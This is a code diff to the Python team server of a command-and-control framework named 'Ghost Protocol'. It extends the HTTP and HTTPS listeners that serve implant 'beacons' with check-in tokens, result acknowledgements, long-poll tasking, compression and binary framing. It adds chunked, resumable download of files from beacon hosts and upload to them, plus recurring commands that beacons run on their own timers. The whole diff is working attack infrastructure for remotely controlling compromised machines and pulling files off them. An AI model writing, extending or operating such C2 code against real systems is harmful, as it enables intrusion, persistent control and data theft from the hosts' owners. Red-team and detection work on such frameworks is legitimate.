@@ -3,18 +3,34 @@ Ghost Protocol Team Server Core
 """
 
 import asyncio
+import base64
+import hmac
+import json
 import logging
-from typing import Dict, List, Optional, Any
+import math
+import os
+import secrets
+import uuid
+import zlib
+from typing import Dict, List, Optional, Any, Tuple
 from datetime import datetime, timezone
 
 from ..core import Config, EventBus
 from ..database.manager import DatabaseManager
 from ..database.models import Beacon, Session, Command, CommandResult
+from .protocol import (TLV_CONTENT_TYPE, TELEMETRY_BUCKETS, TELEMETRY_PHASES, is_tlv, decode_checkin,
+                       encode_commands)
 
 
 class TeamServerCore:
     """Ghost Protocol Team Server Core Implementation"""
     
+    # File bytes per upload chunk, the same as the beacon's download chunks
+    TRANSFER_CHUNK_SIZE = 12288
+    
+    # Upload chunks queued ahead of the beacon's acknowledgements
+    UPLOAD_WINDOW = 16
+    
     def __init__(self, config: Config, event_bus: EventBus):
         self.config = config
         self.event_bus = event_bus
@@ -26,6 +42,33 @@ class TeamServerCore:
         self.beacons: Dict[str, Dict[str, Any]] = {}
         self.sessions: Dict[str, Dict[str, Any]] = {}
         
+        # (beacon_id, token) per check-in session, indexed by the number that leads the token
+        self.checkin_tokens: List[Tuple[str, str]] = []
+        
+        # Chunked command output waiting for its remaining pieces, keyed by (beacon_id, command_id)
+        self.output_streams: Dict[tuple, Dict[str, Any]] = {}
+        
+        # Set when a command is queued, waking any long-poll check-in held for that beacon
+        self.command_events: Dict[str, asyncio.Event] = {}
+        
+        # Next upload sequence expected from each beacon; anything below it is a retransmit
+        self.result_acks: Dict[str, int] = {}
+        
+        # Check-in phase histograms reported by beacons, merged per listener and phase
+        self.telemetry: Dict[str, Dict[str, Dict[str, Any]]] = {}
+        
+        # Downloads being written to disk, keyed by (beacon_id, command_id)
+        self.downloads: Dict[tuple, Dict[str, Any]] = {}
+        
+        # Uploads keyed by (beacon_id, remote path), and the upload each chunk command belongs to
+        self.uploads: Dict[tuple, Dict[str, Any]] = {}
+        self.upload_chunks: Dict[tuple, tuple] = {}
+        
+        # Recurring commands the beacons run on their own timers, keyed by (beacon_id, schedule_id),
+        # and the schedule each queued cancel stops
+        self.schedules: Dict[tuple, Dict[str, Any]] = {}
+        self.schedule_cancels: Dict[tuple, tuple] = {}
+        
         # Server state
         self._running = False
         self._initialized = False
@@ -150,6 +193,7 @@ class TeamServerCore:
                     "first_seen": datetime.now(timezone.utc),
                     "last_seen": datetime.now(timezone.utc),
                     "system_info": beacon_data.get("system_info", {}),
+                    "backpressure": beacon_data.get("backpressure"),
                     "status": "active"
                 }
                 
@@ -163,9 +207,11 @@ class TeamServerCore:
                 
                 self.logger.info(f"New beacon registered: {beacon_id}")
             else:
-                # Update existing beacon
+                # Update existing beacon; system_info carries only the fields that changed
                 self.beacons[beacon_id]["last_seen"] = datetime.now(timezone.utc)
+                self.beacons[beacon_id]["backpressure"] = beacon_data.get("backpressure")
                 self.beacons[beacon_id]["status"] = "active"
+                self.beacons[beacon_id]["system_info"].update(beacon_data.get("system_info") or {})
                 
                 if self.db_manager:
                     await self.db_manager.update_beacon_checkin(beacon_id)
@@ -173,25 +219,382 @@ class TeamServerCore:
         except Exception as e:
             self.logger.error(f"Error handling beacon checkin: {e}")
     
-    async def _handle_beacon_output(self, event_data: Dict[str, Any]):
-        """Handle beacon command output"""
+    def issue_checkin_token(self, beacon_id: str) -> Optional[str]:
+        """Return the token a registered beacon checks in with, issuing it on first use
+        
+        The token is the beacon's slot in checkin_tokens, in hex, and a random check, so
+        resolving one is a list index. A beacon that registers again keeps its token.
+        """
+        beacon = self.beacons.get(beacon_id)
+        if beacon is None:
+            return None
+        if "checkin_token" not in beacon:
+            beacon["checkin_token"] = f"{len(self.checkin_tokens):x}.{secrets.token_hex(4)}"
+            self.checkin_tokens.append((beacon_id, beacon["checkin_token"]))
+        return beacon["checkin_token"]
+    
+    def resolve_checkin_token(self, token: str) -> Optional[str]:
+        """Return the beacon a check-in token belongs to, or None if it was not issued here"""
+        index, _, _ = token.partition(".")
+        try:
+            slot = int(index, 16)
+        except ValueError:
+            return None
+        if not 0 <= slot < len(self.checkin_tokens):
+            return None
+        beacon_id, issued = self.checkin_tokens[slot]
+        return beacon_id if hmac.compare_digest(issued, token) else None
+    
+    async def _handle_beacon_output(self, event_data: Dict[str, Any]) -> bool:
+        """Handle beacon command output; returns False when storing it failed but may succeed later"""
+        beacon_id = event_data.get("beacon_id")
+        command_id = event_data.get("command_id")
         try:
-            beacon_id = event_data.get("beacon_id")
-            command_id = event_data.get("command_id")
             output = event_data.get("output", "")
+            success = event_data.get("success", True)
+            
+            # Download chunks go to disk; the result is stored once the file is complete
+            if event_data.get("offset") is not None:
+                download = self._write_download_chunk(beacon_id, command_id, event_data)
+                if download is None:
+                    return True
+                output, success = download["output"], download["success"]
+            elif (beacon_id, command_id) in self.downloads:
+                # The beacon could not start the download; its error is the result
+                self._close_download(beacon_id, command_id)
+            elif (beacon_id, command_id) in self.upload_chunks:
+                await self._upload_chunk_done(beacon_id, command_id, success)
+            elif (beacon_id, command_id) in self.schedules and not success:
+                # The beacon refused the schedule, so no runs will follow
+                del self.schedules[(beacon_id, command_id)]
+            elif (beacon_id, command_id) in self.schedule_cancels:
+                # The beacon has stopped the schedule; runs it already started may still report
+                self.schedules.pop(self.schedule_cancels.pop((beacon_id, command_id)), None)
+            
+            # Runs of a recurring command were never queued here; record each on first sight
+            schedule_id, _, run = (command_id or "").rpartition(".")
+            schedule = self.schedules.get((beacon_id, schedule_id)) if run.isdigit() else None
+            if schedule is not None and int(run) not in schedule["runs"]:
+                schedule["runs"].add(int(run))
+                if self.db_manager:
+                    await self.db_manager.create_command(
+                        command_id=command_id,
+                        beacon_id=beacon_id,
+                        command=schedule["command"],
+                        args=schedule["args"],
+                        status='sent'
+                    )
+            elif schedule is None and run.isdigit() and self.db_manager:
+                # A run reported after its schedule was forgotten, by a cancel or a restart; the
+                # schedule's own command row tells whether this beacon ran it
+                stored = await self.db_manager.get_command(schedule_id)
+                if stored and stored["beacon_id"] == beacon_id and stored["command"] == "schedule":
+                    await self.db_manager.create_command(
+                        command_id=command_id,
+                        beacon_id=beacon_id,
+                        command=stored["args"].get("command"),
+                        args=stored["args"].get("args", {}),
+                        status='sent'
+                    )
+            
+            # Streamed output arrives as numbered chunks; store it once every chunk is in
+            if event_data.get("sequence") is not None:
+                stream = self._assemble_output_chunk(beacon_id, command_id, event_data)
+                if stream is None:
+                    return True
+                output, success = stream["output"], stream["success"]
             
             if self.db_manager:
-                await self.db_manager.store_command_result(
+                stored = await self.db_manager.store_command_result(
                     command_id=command_id,
                     beacon_id=beacon_id,
                     output=output,
-                    success=event_data.get("success", True)
+                    success=success
                 )
+                if stored is False:
+                    return False
             
-            self.logger.info(f"Command output received from beacon {beacon_id}")
+            if schedule is not None and len(schedule["runs"]) >= schedule["count"]:
+                self.schedules.pop((beacon_id, schedule_id), None)
             
+            self.logger.info(f"Command output received from beacon {beacon_id}")
+            return True
+        
         except Exception as e:
-            self.logger.error(f"Error handling beacon output: {e}")
+            # A result that raised fails the same way on every resend; holding its ack back
+            # would stall every result the beacon has queued behind it
+            self.logger.error(f"Dropping output of {command_id} from beacon {beacon_id}: {e}")
+            return True
+    
+    async def store_beacon_results(self, beacon_id: str, results: List[Dict[str, Any]],
+                                   registered: bool = False) -> Optional[int]:
+        """Store a check-in's results in upload order and return the sequence to acknowledge
+        
+        The acknowledgement is the next result_seq expected, so the beacon drops what was
+        stored and resends only the tail. A registering beacon has restarted its numbering.
+        Returns None when the beacon does not number its results.
+        """
+        if registered:
+            self.result_acks.pop(beacon_id, None)
+        expected = self.result_acks.get(beacon_id)
+        numbered = False
+        
+        for result in results:
+            sequence = result.get("result_seq")
+            if sequence is not None:
+                numbered = True
+                sequence = int(sequence)
+                if expected is None:
+                    expected = sequence
+                if sequence < expected:
+                    continue
+                if sequence > expected:
+                    break
+            
+            stored = await self._handle_beacon_output({
+                "beacon_id": beacon_id,
+                "command_id": result.get("command_id"),
+                "output": result.get("output", ""),
+                "success": result.get("success", True),
+                "sequence": result.get("sequence"),
+                "final": result.get("final", False),
+                "offset": result.get("offset"),
+                "data": result.get("data")
+            })
+            if sequence is not None:
+                if not stored:
+                    break
+                expected = sequence + 1
+        
+        if not numbered:
+            return None
+        self.result_acks[beacon_id] = expected
+        return expected
+    
+    def record_telemetry(self, listener_id: str, telemetry: Any):
+        """Merge one beacon's phase histograms into its listener's totals"""
+        if not isinstance(telemetry, dict):
+            return
+        phases = self.telemetry.setdefault(listener_id, {})
+        for name, sample in telemetry.items():
+            # Unknown phases are dropped so a beacon cannot grow the table without bound
+            if name not in TELEMETRY_PHASES or not isinstance(sample, dict):
+                continue
+            try:
+                buckets = [(int(index), int(count)) for index, count in sample.get("buckets", [])]
+                count = int(sample.get("count", 0))
+                failures = int(sample.get("failures", 0))
+                sum_us = int(sample.get("sum_us", 0))
+                max_us = int(sample.get("max_us", 0))
+            except (TypeError, ValueError):
+                self.logger.debug(f"Malformed {name} telemetry from {listener_id} listener")
+                continue
+            if min(count, failures, sum_us, max_us) < 0 or any(
+                    not 0 <= index < TELEMETRY_BUCKETS or bucket_count < 0 for index, bucket_count in buckets):
+                continue
+            
+            totals = phases.setdefault(name, {
+                "count": 0, "failures": 0, "sum_us": 0, "max_us": 0, "buckets": [0] * TELEMETRY_BUCKETS
+            })
+            totals["count"] += count
+            totals["failures"] += failures
+            totals["sum_us"] += sum_us
+            totals["max_us"] = max(totals["max_us"], max_us)
+            for index, bucket_count in buckets:
+                totals["buckets"][index] += bucket_count
+    
+    def get_telemetry(self) -> Dict[str, Dict[str, Dict[str, Any]]]:
+        """Get per-listener check-in phase timings in microseconds"""
+        return {
+            listener_id: {name: self._summarize_phase(totals) for name, totals in phases.items()}
+            for listener_id, phases in self.telemetry.items()
+        }
+    
+    @staticmethod
+    def _summarize_phase(totals: Dict[str, Any]) -> Dict[str, Any]:
+        """Summarize one phase; percentiles resolve to a bucket, so they are within a factor of two"""
+        count = totals["count"]
+        summary = {"count": count, "failures": totals["failures"], "max_us": totals["max_us"]}
+        summary["mean_us"] = totals["sum_us"] // count if count else 0
+        for label, fraction in (("p50_us", 0.5), ("p90_us", 0.9), ("p99_us", 0.99)):
+            rank = max(1, math.ceil(count * fraction))
+            seen = 0
+            value = 0
+            for index, bucket_count in enumerate(totals["buckets"]):
+                seen += bucket_count
+                if seen >= rank:
+                    # Report the bucket's upper bound, never above the largest sample seen
+                    value = min((1 << index) - 1, totals["max_us"])
+                    break
+            summary[label] = value
+        return summary
+    
+    def _assemble_output_chunk(self, beacon_id: str, command_id: str,
+                               event_data: Dict[str, Any]) -> Optional[Dict[str, Any]]:
+        """Buffer one output chunk; returns the assembled output once the stream is complete"""
+        key = (beacon_id, command_id)
+        stream = self.output_streams.setdefault(key, {"chunks": {}, "final": None, "success": True})
+        
+        # Retransmitted chunks simply overwrite themselves
+        sequence = int(event_data["sequence"])
+        stream["chunks"][sequence] = event_data.get("output", "")
+        if event_data.get("final"):
+            stream["final"] = sequence
+            stream["success"] = event_data.get("success", True)
+        
+        final = stream["final"]
+        if final is None or len(stream["chunks"]) < final + 1:
+            return None
+        
+        del self.output_streams[key]
+        return {
+            "output": "".join(stream["chunks"][i] for i in range(final + 1)),
+            "success": stream["success"]
+        }
+    
+    async def start_download(self, beacon_id: str, remote_path: str, local_path: str) -> str:
+        """Queue a download of remote_path, resuming a partial copy left at local_path"""
+        part_path = local_path + ".part"
+        
+        # Chunks are written in order, so a partial file is exactly the acknowledged prefix
+        offset = os.path.getsize(part_path) if os.path.exists(part_path) else 0
+        
+        # Registered first so a chunk can never arrive before its download is known
+        command_id = str(uuid.uuid4())
+        self.downloads[(beacon_id, command_id)] = {
+            "local_path": local_path,
+            "part_path": part_path,
+            "file": None
+        }
+        await self._queue_beacon_command(beacon_id, "download", {"path": remote_path, "offset": offset},
+                                         command_id)
+        return command_id
+    
+    def _write_download_chunk(self, beacon_id: str, command_id: str,
+                              event_data: Dict[str, Any]) -> Optional[Dict[str, Any]]:
+        """Write one chunk at its offset; returns the result once the final chunk is in"""
+        download = self.downloads.get((beacon_id, command_id))
+        if download is None:
+            self.logger.warning(f"Dropping chunk of unknown download {command_id} from {beacon_id}")
+            return None
+        
+        # JSON check-ins carry the bytes base64-encoded, binary ones carry them raw
+        data = event_data.get("data") or b""
+        if isinstance(data, str):
+            data = base64.b64decode(data)
+        
+        if download["file"] is None:
+            exists = os.path.exists(download["part_path"])
+            download["file"] = open(download["part_path"], "r+b" if exists else "wb")
+        offset = int(event_data["offset"])
+        download["file"].seek(offset)
+        download["file"].write(data)
+        if not event_data.get("final"):
+            return None
+        
+        size = offset + len(data)
+        self._close_download(beacon_id, command_id)
+        if not event_data.get("success", True):
+            # The partial file stays behind so the next download of it resumes
+            return {"output": f"Download failed after {size} bytes", "success": False}
+        os.replace(download["part_path"], download["local_path"])
+        return {"output": f"Downloaded {size} bytes to {download['local_path']}", "success": True}
+    
+    def _close_download(self, beacon_id: str, command_id: str):
+        download = self.downloads.pop((beacon_id, command_id))
+        if download["file"] is not None:
+            download["file"].close()
+    
+    async def start_upload(self, beacon_id: str, local_path: str, remote_path: str):
+        """Send local_path to the beacon, resuming an interrupted upload of the same file"""
+        key = (beacon_id, remote_path)
+        size = os.path.getsize(local_path)
+        upload = self.uploads.get(key)
+        if upload is None or upload["local_path"] != local_path or upload["size"] != size:
+            upload = {"local_path": local_path, "size": size, "next": 0, "pending": {}}
+        
+        # Chunks past the acknowledged prefix are sent again, those before it are not
+        upload.update(next=self._upload_acked(upload), pending={}, sent_final=False, failed=False)
+        self.uploads[key] = upload
+        await self._send_upload_chunks(beacon_id, remote_path)
+    
+    @staticmethod
+    def _upload_acked(upload: Dict[str, Any]) -> int:
+        """Length of the prefix the beacon has confirmed writing"""
+        return min(list(upload["pending"].values()) + [upload["next"]])
+    
+    async def _send_upload_chunks(self, beacon_id: str, remote_path: str):
+        """Queue chunks until the window is full; each one is written at its offset"""
+        key = (beacon_id, remote_path)
+        upload = self.uploads[key]
+        
+        with open(upload["local_path"], "rb") as source:
+            while not upload["failed"] and not upload["sent_final"] and len(upload["pending"]) < self.UPLOAD_WINDOW:
+                offset = upload["next"]
+                source.seek(offset)
+                data = source.read(self.TRANSFER_CHUNK_SIZE)
+                final = offset + len(data) >= upload["size"]
+                
+                command_id = str(uuid.uuid4())
+                upload["pending"][command_id] = offset
+                upload["next"] = offset + len(data)
+                upload["sent_final"] = final
+                self.upload_chunks[(beacon_id, command_id)] = key
+                await self._queue_beacon_command(beacon_id, "upload", {
+                    "path": remote_path,
+                    "offset": offset,
+                    "data": base64.b64encode(data).decode(),
+                    "final": final
+                }, command_id)
+    
+    async def _upload_chunk_done(self, beacon_id: str, command_id: str, success: bool):
+        """Account for one written chunk and refill the window"""
+        key = self.upload_chunks.pop((beacon_id, command_id))
+        upload = self.uploads.get(key)
+        if upload is None or command_id not in upload["pending"]:
+            return
+        
+        offset = upload["pending"].pop(command_id)
+        if not success:
+            # Stop here; starting the upload again resumes from the acknowledged prefix
+            upload["failed"] = True
+            upload["next"] = min(upload["next"], offset)
+            return
+        
+        if upload["sent_final"] and not upload["pending"]:
+            del self.uploads[key]
+            self.logger.info(f"Upload of {upload['local_path']} to beacon {beacon_id} complete")
+        elif not upload["failed"]:
+            await self._send_upload_chunks(beacon_id, key[1])
+    
+    async def schedule_command(self, beacon_id: str, command: str, args: Any, interval: int, count: int) -> str:
+        """Have the beacon run a command every interval seconds, count times, on its own timer
+        
+        The schedule is queued once and the beacon reports run n as "<schedule_id>.<n>" in its
+        regular check-ins. Schedule ids are kept short so run ids still fit a command id.
+        """
+        schedule_id = secrets.token_hex(8)
+        self.schedules[(beacon_id, schedule_id)] = {
+            "command": command, "args": args, "interval": interval, "count": count, "runs": set()
+        }
+        await self._queue_beacon_command(beacon_id, "schedule", {
+            "command": command,
+            "args": args,
+            "interval": interval,
+            "count": count
+        }, schedule_id)
+        return schedule_id
+    
+    async def cancel_schedule(self, beacon_id: str, schedule_id: str) -> str:
+        """Stop a recurring command; runs already reported stay stored
+        
+        The schedule is kept until the cancel's own result arrives, since the beacon goes on
+        running it until then.
+        """
+        command_id = await self._queue_beacon_command(beacon_id, "schedule", {"cancel": schedule_id})
+        if (beacon_id, schedule_id) in self.schedules:
+            self.schedule_cancels[(beacon_id, command_id)] = (beacon_id, schedule_id)
+        return command_id
     
     async def _handle_command_execute(self, event_data: Dict[str, Any]):
         """Handle command execution requests"""
@@ -200,7 +603,26 @@ class TeamServerCore:
             command = event_data.get("command")
             args = event_data.get("args", {})
             
-            if beacon_id in self.beacons:
+            if beacon_id in self.beacons and command in ("download", "upload") and isinstance(args, list):
+                # Transfers are split into chunk commands; the client sends [source, destination]
+                if len(args) < 2:
+                    self.logger.warning(f"{command} for beacon {beacon_id} needs a source and destination")
+                elif command == "download":
+                    command_id = await self.start_download(beacon_id, args[0], args[1])
+                    self.logger.info(f"Download {command_id} queued for beacon {beacon_id}")
+                else:
+                    await self.start_upload(beacon_id, args[0], args[1])
+                    self.logger.info(f"Upload of {args[0]} queued for beacon {beacon_id}")
+            elif beacon_id in self.beacons and command == "schedule" and isinstance(args, dict):
+                # The client sends {"command", "args", "interval", "count"}, or {"cancel": schedule_id}
+                if "cancel" in args:
+                    await self.cancel_schedule(beacon_id, args["cancel"])
+                    self.logger.info(f"Schedule {args['cancel']} cancelled on beacon {beacon_id}")
+                else:
+                    schedule_id = await self.schedule_command(beacon_id, args.get("command"), args.get("args", {}),
+                                                              int(args.get("interval", 0)), int(args.get("count", 0)))
+                    self.logger.info(f"Schedule {schedule_id} queued for beacon {beacon_id}")
+            elif beacon_id in self.beacons:
                 # Queue command for beacon
                 command_id = await self._queue_beacon_command(beacon_id, command, args)
                 self.logger.info(f"Command {command_id} queued for beacon {beacon_id}")
@@ -254,11 +676,10 @@ class TeamServerCore:
         except Exception as e:
             self.logger.error(f"Error closing session: {e}")
     
-    async def _queue_beacon_command(self, beacon_id: str, command: str, args: Dict[str, Any]) -> str:
+    async def _queue_beacon_command(self, beacon_id: str, command: str, args: Dict[str, Any],
+                                    command_id: Optional[str] = None) -> str:
         """Queue a command for execution on a beacon"""
-        import uuid
-        
-        command_id = str(uuid.uuid4())
+        command_id = command_id or str(uuid.uuid4())
         
         if self.db_manager:
             await self.db_manager.create_command(
@@ -268,8 +689,21 @@ class TeamServerCore:
                 args=args
             )
         
+        event = self.command_events.get(beacon_id)
+        if event:
+            event.set()
+        
         return command_id
     
+    def command_event(self, beacon_id: str) -> asyncio.Event:
+        """Get an event that fires on the next command queued for a beacon"""
+        event = self.command_events.get(beacon_id)
+        if event is None or event.is_set():
+            # A fresh event leaves waiters on a fired one undisturbed
+            event = asyncio.Event()
+            self.command_events[beacon_id] = event
+        return event
+    
     def get_beacons(self) -> List[Dict[str, Any]]:
         """Get all registered beacons"""
         return list(self.beacons.values())
@@ -292,6 +726,18 @@ class TeamServerCore:
 class HTTPListener:
     """HTTP C2 Listener"""
     
+    # Replies smaller than this go out uncompressed
+    COMPRESS_MIN_SIZE = 1024
+    
+    # Largest check-in body accepted after inflating
+    MAX_INFLATED_SIZE = 64 * 1024 * 1024
+    
+    # Longest an idle check-in is held open waiting for tasking, in seconds
+    MAX_LONG_POLL = 120
+    
+    # Key of this listener in TeamServerCore.listeners
+    listener_id = "http"
+    
     def __init__(self, host: str, port: int, server_core: TeamServerCore):
         self.host = host
         self.port = port
@@ -311,7 +757,8 @@ class HTTPListener:
             app.router.add_get("/{path:.*}", self.handle_beacon_request)
             app.router.add_post("/{path:.*}", self.handle_beacon_request)
             
-            runner = web_runner.AppRunner(app)
+            # Bodies are inflated in _decode_body, which enforces a size limit
+            runner = web_runner.AppRunner(app, auto_decompress=False)
             await runner.setup()
             
             site = web_runner.TCPSite(runner, self.host, self.port)
@@ -335,34 +782,112 @@ class HTTPListener:
         from aiohttp import web
         
         try:
-            # Extract beacon data from request
-            beacon_id = request.headers.get("X-Beacon-ID")
+            # Registered beacons send their check-in token alone; 401 makes one the listener
+            # does not know (say, after a restart) register again
+            token = request.headers.get("X-Session")
+            if token:
+                beacon_id = self.server_core.resolve_checkin_token(token)
+                if not beacon_id:
+                    return web.Response(status=401)
+            else:
+                beacon_id = request.headers.get("X-Beacon-ID")
             if not beacon_id:
                 return web.Response(status=404)
             
-            # Get system info if POST
+            # Get system info, command results and backpressure if POST
             system_info = {}
+            command_results = []
+            backpressure = None
+            telemetry = None
+            binary = request.headers.get("Content-Type", "").startswith(TLV_CONTENT_TYPE)
             if request.method == "POST":
                 try:
-                    data = await request.json()
+                    body = self._decode_body(await request.read(), request.headers.get("Content-Encoding"))
+                except ValueError as e:
+                    self.logger.warning(f"Rejected check-in from {beacon_id}: {e}")
+                    return web.Response(status=415)
+                
+                try:
+                    # Beacons started with --binary send TLV records instead of JSON
+                    data = decode_checkin(body) if is_tlv(body) else json.loads(body)
+                    binary = binary or is_tlv(body)
                     system_info = data.get("system_info", {})
+                    command_results = data.get("command_results", [])
+                    backpressure = data.get("backpressure")
+                    telemetry = data.get("telemetry")
                 except:
                     pass
             
-            self.server_core.event_bus.emit("beacon.checkin", {
+            await self.server_core._handle_beacon_checkin({
                 "beacon_id": beacon_id,
-                "listener_id": "http",
-                "data": {"system_info": system_info}
+                "listener_id": self.listener_id,
+                "data": {"system_info": system_info, "backpressure": backpressure}
             })
             
-            # Return any queued commands
-            commands = await self._get_queued_commands(beacon_id)
-            return web.json_response({"commands": commands})
+            if telemetry:
+                self.server_core.record_telemetry(self.listener_id, telemetry)
             
+            # Beacons in a session only send system_info when a field changed
+            registered = bool(system_info) and not token
+            ack = await self.server_core.store_beacon_results(beacon_id, command_results, registered)
+            session = None if token else self.server_core.issue_checkin_token(beacon_id)
+            
+            # Return queued commands, holding back whatever the beacon has no room for
+            limit = backpressure.get("accept") if isinstance(backpressure, dict) else None
+            wait = (backpressure.get("long_poll") or 0) if isinstance(backpressure, dict) else 0
+            commands = await self._get_queued_commands(beacon_id, limit, min(wait, self.MAX_LONG_POLL))
+            return self._encode_response(commands, request.headers.get("Accept-Encoding", ""), binary, ack,
+                                         session)
+        
         except Exception as e:
             self.logger.error(f"Error handling beacon checkin: {e}")
             return web.Response(status=500)
     
+    def _decode_body(self, body: bytes, encoding: Optional[str]) -> bytes:
+        """Undo the Content-Encoding of a check-in body"""
+        encoding = (encoding or "identity").strip().lower()
+        if encoding == "identity":
+            return body
+        if encoding != "deflate":
+            raise ValueError(f"unsupported Content-Encoding {encoding}")
+        
+        decoder = zlib.decompressobj()
+        try:
+            decoded = decoder.decompress(body, self.MAX_INFLATED_SIZE)
+        except zlib.error as e:
+            raise ValueError(f"corrupt deflate body: {e}")
+        if decoder.unconsumed_tail:
+            raise ValueError("deflate body exceeds the size limit")
+        return decoded
+    
+    def _encode_response(self, commands: List[Dict[str, Any]], accept_encoding: str, binary: bool = False,
+                         ack: Optional[int] = None, session: Optional[str] = None):
+        """Serialize a check-in reply in the beacon's framing, deflating it when the beacon accepts that"""
+        from aiohttp import web
+        
+        if binary:
+            body = encode_commands(commands, ack, session)
+        else:
+            reply: Dict[str, Any] = {"commands": commands}
+            if ack is not None:
+                reply["ack"] = ack
+            if session is not None:
+                reply["session"] = session
+            body = json.dumps(reply).encode()
+        # Advertise deflate so the beacon starts compressing its uploads, and how long
+        # idle check-ins may be held so it knows a long poll replaces its sleep
+        headers = {"Accept-Encoding": "deflate", "X-Long-Poll": str(self.MAX_LONG_POLL)}
+        
+        accepted = [token.split(";")[0].strip().lower() for token in accept_encoding.split(",")]
+        if "deflate" in accepted and len(body) >= self.COMPRESS_MIN_SIZE:
+            compressed = zlib.compress(body)
+            if len(compressed) < len(body):
+                body = compressed
+                headers["Content-Encoding"] = "deflate"
+        
+        content_type = TLV_CONTENT_TYPE if binary else "application/json"
+        return web.Response(body=body, content_type=content_type, headers=headers)
+    
     async def handle_beacon_request(self, request):
         """Handle general beacon requests"""
         from aiohttp import web
@@ -370,16 +895,32 @@ class HTTPListener:
         # Basic 404 response for non-beacon traffic
         return web.Response(status=404)
     
-    async def _get_queued_commands(self, beacon_id: str) -> List[Dict[str, Any]]:
-        """Get queued commands for beacon"""
-        if self.server_core.db_manager:
-            return await self.server_core.db_manager.get_pending_commands(beacon_id)
-        return []
+    async def _get_queued_commands(self, beacon_id: str, limit: Optional[int] = None,
+                                   wait: float = 0) -> List[Dict[str, Any]]:
+        """Get queued commands for beacon, waiting up to wait seconds for one to be queued"""
+        if limit is not None and limit <= 0:
+            return []
+        if not self.server_core.db_manager:
+            return []
+        
+        # Arm the wake-up before looking so a command queued in between is not missed
+        event = self.server_core.command_event(beacon_id) if wait > 0 else None
+        commands = await self.server_core.db_manager.get_pending_commands(beacon_id, limit)
+        if commands or event is None:
+            return commands
+        
+        try:
+            await asyncio.wait_for(event.wait(), wait)
+        except asyncio.TimeoutError:
+            return []
+        return await self.server_core.db_manager.get_pending_commands(beacon_id, limit)
 
 
 class HTTPSListener(HTTPListener):
     """HTTPS C2 Listener"""
     
+    listener_id = "https"
+    
     def __init__(self, host: str, port: int, cert_file: str, key_file: str, server_core: TeamServerCore):
         super().__init__(host, port, server_core)
         self.cert_file = cert_file
@@ -402,7 +943,8 @@ class HTTPSListener(HTTPListener):
             app.router.add_get("/{path:.*}", self.handle_beacon_request)
             app.router.add_post("/{path:.*}", self.handle_beacon_request)
             
-            runner = web_runner.AppRunner(app)
+            # Bodies are inflated in _decode_body, which enforces a size limit
+            runner = web_runner.AppRunner(app, auto_decompress=False)
             await runner.setup()
             
             site = web_runner.TCPSite(runner, self.host, self.port, ssl_context=ssl_context)